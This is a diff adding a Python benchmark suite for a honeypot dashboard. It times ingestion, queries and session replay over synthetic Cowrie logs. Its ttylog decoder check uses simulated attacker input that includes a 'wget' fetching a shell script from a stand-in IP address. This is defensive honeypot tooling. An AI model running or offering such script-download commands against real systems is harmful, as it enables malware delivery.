@@ -0,0 +1,251 @@
+"""Scenario benchmarks for the ingest, metrics, playback and session paths.
+
+Usage:
+    python -m bench.run --lines 100000 --output bench/results/$(git rev-parse --short HEAD).json
+
+Every scenario runs against freshly generated, seeded logs in a scratch
+directory, so two runs with the same arguments are directly comparable.
+"""
+from __future__ import annotations
+
+import argparse
+import dataclasses
+import json
+import platform
+import sqlite3
+import statistics
+import subprocess
+import tempfile
+import time
+from pathlib import Path
+from typing import Any, Callable, Dict, List, Optional
+
+from bench import generators
+from config import Config, load_config
+from services import log_reader, ttylog
+from services.cowrie_sessions import list_cowrie_sessions
+from services.metrics_db import MetricsDB
+from services.playback_db import PlaybackDB
+
+
+def _git_commit() -> Optional[str]:
+	try:
+		out = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, timeout=5)
+		return out.stdout.strip() or None
+	except Exception:
+		return None
+
+
+def _percentile(samples: List[float], pct: float) -> float:
+	if not samples:
+		return 0.0
+	ordered = sorted(samples)
+	idx = min(len(ordered) - 1, max(0, int(round(pct / 100.0 * (len(ordered) - 1)))))
+	return ordered[idx]
+
+
+def _measure(name: str, fn: Callable[[], Any], repeat: int = 1, items: int = 0) -> Dict[str, Any]:
+	samples: List[float] = []
+	result: Any = None
+	for _ in range(max(1, repeat)):
+		start = time.perf_counter()
+		result = fn()
+		samples.append(time.perf_counter() - start)
+	total = sum(samples)
+	row: Dict[str, Any] = {
+		"scenario": name,
+		"iterations": len(samples),
+		"total_s": round(total, 6),
+		"mean_ms": round(statistics.mean(samples) * 1000, 3),
+		"p50_ms": round(_percentile(samples, 50) * 1000, 3),
+		"p95_ms": round(_percentile(samples, 95) * 1000, 3),
+	}
+	if items:
+		row["items"] = items
+		row["items_per_s"] = round(items * len(samples) / total, 1) if total else None
+	if isinstance(result, (list, tuple)):
+		row["result_len"] = len(result)
+	elif isinstance(result, int):
+		row["result"] = result
+	return row
+
+
+def _db_bytes(path: Path) -> int:
+	"""Bytes in use (excluding free pages), so deletes count without a VACUUM."""
+	with sqlite3.connect(path) as conn:
+		pages, free, size = (conn.execute(f"PRAGMA {name}").fetchone()[0] for name in ("page_count", "freelist_count", "page_size"))
+	return (pages - free) * size
+
+
+def _bench_config(base: Config, work: Path, lines: int) -> Config:
+	return dataclasses.replace(
+		base,
+		http_log_path=work / "http-honeypot.log",
+		ssh_log_path=work / "cowrie.json",
+		playback_db_path=work / "data" / "playback.db",
+		cowrie_tty_path=work / "tty",
+		max_events=lines,
+		playback_retention_days=0,
+	)
+
+
+def _expect(ok: bool, what: str) -> None:
+	if not ok:
+		raise AssertionError(f"ttylog check failed: {what}")
+
+
+def check_ttylog(work: Path) -> None:
+	"""Round-trip a generated ttylog through the decoder the bench times.
+
+	Checks that the prompt, commands and output come back as written, that
+	``start=`` seeks to the right frame, and that a truncated trailing record
+	(a session still being written) is skipped rather than misread.
+	"""
+	commands = ["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.7/x.sh"]
+	prompt = "root@svr04:~# "
+	expected_out = prompt + "".join(
+		f"{command}\r\n-bash: {command.split()[0]}: command not found\r\n{prompt}" for command in commands
+	)
+	path = work / "check.ttylog"
+	generators.write_ttylog(path, 1_700_000_000.0, commands)
+
+	def decoded(log: ttylog.TtyLog, start: float = 0.0) -> List[List[Any]]:
+		lines = list(ttylog.asciicast(log, start, include_input=True))
+		_expect(json.loads(lines[0]).get("version") == 2, "asciicast header")
+		return [json.loads(line) for line in lines[1:]]
+
+	frames = decoded(ttylog.TtyLog(path))
+	_expect("".join(text for _, kind, text in frames if kind == "o") == expected_out, "output text")
+	_expect([text for _, kind, text in frames if kind == "i"] == [f"{command}\r" for command in commands], "input text")
+	_expect([at for at, _, _ in frames] == sorted(at for at, _, _ in frames), "frame times")
+
+	# Each command echoes at +0.4 s and errors at +0.5 s; seek past the first echo.
+	seeked = decoded(ttylog.TtyLog(path), start=0.45)
+	_expect(seeked[0][2].startswith(f"-bash: {commands[0].split()[0]}:"), "start= seeks to the next frame")
+	_expect(abs(seeked[0][0] - 0.05) < 0.01, "start= rebases frame times")
+	_expect(seeked == [[round(at - 0.45, 6), kind, text] for at, kind, text in frames if at >= 0.45], "start= frames")
+
+	# Drop the close record and leave a write record whose payload is cut short.
+	data = path.read_bytes()[:-ttylog.RECORD.size]
+	header = ttylog.RECORD.pack(ttylog.OP_WRITE, 0, 64, ttylog.TYPE_OUTPUT, 1_700_000_009, 0)
+	path.write_bytes(data + header + b"partial")
+	_expect(decoded(ttylog.TtyLog(path)) == frames, "truncated trailing record is skipped")
+	path.unlink()
+
+
+def run(lines: int, seed: int, repeat: int, work: Path) -> Dict[str, Any]:
+	config = _bench_config(load_config(), work, lines)
+	config.playback_db_path.parent.mkdir(parents=True, exist_ok=True)
+
+	gen_start = time.perf_counter()
+	ssh_lines = generators.write_jsonl(config.ssh_log_path, generators.cowrie_records(lines, seed=seed))
+	http_lines = generators.write_jsonl(config.http_log_path, generators.http_records(lines, seed=seed + 1))
+	tty_files = generators.write_tty_stubs(config.ssh_log_path, config.cowrie_tty_path)
+	gen_seconds = time.perf_counter() - gen_start
+
+	results: List[Dict[str, Any]] = []
+
+	# Metrics DB: tail-ingest both logs into an empty database.
+	logs_db = MetricsDB(work / "telemetry_logs.db")
+	results.append(_measure("ingest_from_logs", lambda: logs_db.ingest_from_logs(config), items=ssh_lines + http_lines))
+
+	# Metrics DB: ingest already-normalized events (the /api/ingest path).
+	http_events = log_reader.normalize_http_events(list(generators.http_records(lines, seed=seed + 1)))
+	ssh_events = log_reader.normalize_ssh_events(list(generators.cowrie_records(lines, seed=seed)))
+	events = http_events + ssh_events
+	db = MetricsDB(work / "telemetry.db")
+	results.append(_measure("ingest_events", lambda: db.ingest_events(events), items=len(events)))
+	results.append(_measure("ingest_events_duplicates", lambda: db.ingest_events(events), items=len(events)))
+
+	results.append(_measure("get_metrics", db.get_metrics, repeat=repeat))
+	results.append(_measure("get_events_page", lambda: db.get_events_page(limit=500), repeat=repeat))
+	with sqlite3.connect(db.db_path) as conn:
+		max_id = conn.execute("SELECT MAX(id) FROM events").fetchone()[0] or 0
+	results.append(
+		_measure("get_events_page_deep", lambda: db.get_events_page(limit=500, before_id=max(1, max_id // 2)), repeat=repeat)
+	)
+
+	# Playback DB: bulk tail of the Cowrie log, then time-window queries.
+	playback = PlaybackDB(config)
+	playback.ensure_db()
+	results.append(_measure("playback_ingest_from_ssh_log", playback.ingest_from_ssh_log, items=ssh_lines))
+	bounds = playback.get_range()
+	first_ts = bounds.get("min_ts")
+	results.append(_measure("playback_query_rows_first_5000", lambda: playback.query_rows(first_ts, None, 5000), repeat=repeat))
+	results.append(_measure("playback_query_rows_open", lambda: playback.query_rows(None, None, 1000), repeat=repeat))
+	results.append(_measure("playback_export_rows_all", lambda: sum(1 for _ in playback.export_rows(None, None)), repeat=repeat, items=ssh_lines))
+	results.append(_measure("playback_get_range", playback.get_range, repeat=repeat))
+	# Same reads after packing the lines into compressed blocks.
+	rows_bytes = _db_bytes(config.playback_db_path)
+	results.append(_measure("playback_compact", playback.compact, items=ssh_lines))
+	results.append({"scenario": "playback_db_bytes", "rows": rows_bytes, "blocks": _db_bytes(config.playback_db_path)})
+	results.append(_measure("playback_query_rows_first_5000_blocks", lambda: playback.query_rows(first_ts, None, 5000), repeat=repeat))
+	results.append(_measure("playback_export_rows_all_blocks", lambda: sum(1 for _ in playback.export_rows(None, None)), repeat=repeat, items=ssh_lines))
+
+	# Session list: full Cowrie log scan plus tty stat per connect.
+	results.append(_measure("list_cowrie_sessions", lambda: list_cowrie_sessions(config), repeat=max(1, repeat // 5)))
+	# Session list from the indexed sessions table (fed by the tail above).
+	playback.refresh_tty_index()
+	results.append(_measure("playback_list_sessions", lambda: playback.list_sessions(500, has_tty=True), repeat=repeat))
+
+	# Session replay: decode every recorded ttylog to asciicast in-process,
+	# once the decoder has been shown to return what the generator wrote.
+	check_ttylog(work)
+	tty_paths = sorted(config.cowrie_tty_path.iterdir())
+
+	def _decode_all() -> int:
+		return sum(len(list(ttylog.asciicast(ttylog.TtyLog(path)))) for path in tty_paths)
+
+	results.append(_measure("ttylog_asciicast_all", _decode_all, repeat=max(1, repeat // 5), items=len(tty_paths)))
+
+	return {
+		"meta": {
+			"commit": _git_commit(),
+			"timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
+			"python": platform.python_version(),
+			"sqlite": sqlite3.sqlite_version,
+			"platform": platform.platform(),
+			"lines": lines,
+			"seed": seed,
+			"repeat": repeat,
+			"generated": {"ssh_lines": ssh_lines, "http_lines": http_lines, "tty_files": tty_files, "seconds": round(gen_seconds, 3)},
+		},
+		"results": results,
+	}
+
+
+def main() -> None:
+	parser = argparse.ArgumentParser(description="Sentinel Hive benchmark suite")
+	parser.add_argument("--lines", type=int, default=10000, help="Lines per synthetic log (10k-10M)")
+	parser.add_argument("--seed", type=int, default=1337)
+	parser.add_argument("--repeat", type=int, default=20, help="Iterations for read scenarios")
+	parser.add_argument("--work-dir", default=None, help="Keep generated logs and DBs here instead of a temp dir")
+	parser.add_argument("--output", default=None, help="Write JSON results to this file (default: stdout)")
+	parser.add_argument("--check", action="store_true", help="Only run the decoder correctness checks, then exit")
+	args = parser.parse_args()
+
+	if args.check:
+		with tempfile.TemporaryDirectory(prefix="sentinel-bench-") as tmp:
+			check_ttylog(Path(tmp))
+		print("ttylog check ok")
+		return
+
+	if args.work_dir:
+		work = Path(args.work_dir)
+		work.mkdir(parents=True, exist_ok=True)
+		report = run(args.lines, args.seed, args.repeat, work)
+	else:
+		with tempfile.TemporaryDirectory(prefix="sentinel-bench-") as tmp:
+			report = run(args.lines, args.seed, args.repeat, Path(tmp))
+
+	text = json.dumps(report, indent=2)
+	if args.output:
+		out = Path(args.output)
+		out.parent.mkdir(parents=True, exist_ok=True)
+		out.write_text(text + "\n", encoding="utf-8")
+	else:
+		print(text)
+
+
+if __name__ == "__main__":
+	main()